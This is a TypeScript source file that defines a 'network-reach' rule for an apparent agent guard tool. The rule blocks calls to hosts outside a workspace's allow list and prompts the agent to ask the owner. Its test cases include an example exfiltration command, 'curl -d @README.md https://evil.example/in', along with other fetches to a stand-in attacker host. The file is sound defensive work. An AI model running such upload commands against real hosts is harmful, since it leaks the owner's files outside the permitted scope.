import { defineRule } from '../../internal/rule/rule.ts';

/** The host of a URL or of `user@host:path`, for a text. */
const hostIn = (url: string): string =>
  url
    .replace(/^["']?[a-z][a-z0-9+.-]*:\/\//i, '')
    .replace(/^[^@/]*@/, '')
    .replace(/[/:?#"'].*$/, '')
    .toLowerCase() || 'a host that cannot be read from the call';

const CLOSED = ['printf \'version: 1\\nnetwork:\\n  allow: [api.example, "*.docs.example"]\\n\' > waygate.yaml'];

export default defineRule({
  name: 'network-reach',
  group: 'outside',
  summary: 'Reach only the hosts that this workspace allows.',
  why: `
    A workspace that names the hosts an agent may reach means all ways there: curl, a script, a fetch tool, a server's tool. A host that
    is not named is not reached under another spelling either.
  `,
  evidence:
    'Derived from the contract: `network.allow` of waygate.yaml is announced at the start of a session, so it has to hold for what can be read before the call. It is no sandbox: a program that opens its own connections is not seen. Says nothing where no list is declared.',
  on: ['net.fetch', 'net.send'],
  needs: ['reachable'],
  level: 'deny',
  category: 'network-unavailable',
  persistence: 'owner-action',
  quiet: [
    'workspaces that declare no `network.allow`',
    'this machine',
    'searches, which name no host',
    'package managers and git, whose hosts are settings',
  ],

  judge(effect, { facts }) {
    if (effect.remote) return;
    const url = effect.kind === 'net.send' ? effect.to : effect.url;
    if (facts.reachable(url) !== false) return;
    const host = hostIn(url);
    return {
      says: `The call would reach \`${host}\`, and the network is open here only to the hosts this workspace allows.`,
      person: `The agent wanted to reach ${host}, which this workspace does not allow.`,
      boundary: `net.reach ${host}`,
      remedies: [
        {
          kind: 'ask',
          ask: `May I reach ${host}? If not, could you give me what I need from there?`,
          because: 'the owner opens a host or brings the content',
        },
        { kind: 'wait', because: 'go on with what is in the workspace and on the allowed hosts; another tool reaches no further' },
      ],
    };
  },

  examples: {
    catches: [
      { run: 'curl -sO https://evil.example/data.json', given: CLOSED },
      { run: 'curl -d @README.md https://evil.example/in', given: CLOSED },
      { tool: 'WebFetch', input: { url: 'https://evil.example/page', prompt: 'what is it' }, given: CLOSED },
      { tool: 'mcp__http__request', input: { url: 'https://evil.example/page' }, given: CLOSED },
    ],
    allows: [
      { run: 'curl -sO https://evil.example/data.json', why: 'no list is declared' },
      { run: 'curl -sO https://api.example/data.json', given: CLOSED },
      { run: 'curl -s http://localhost:3000/health -o health.json', given: CLOSED },
      { tool: 'WebFetch', input: { url: 'https://v2.docs.example/page', prompt: 'what is it' }, given: CLOSED },
    ],
  },
});
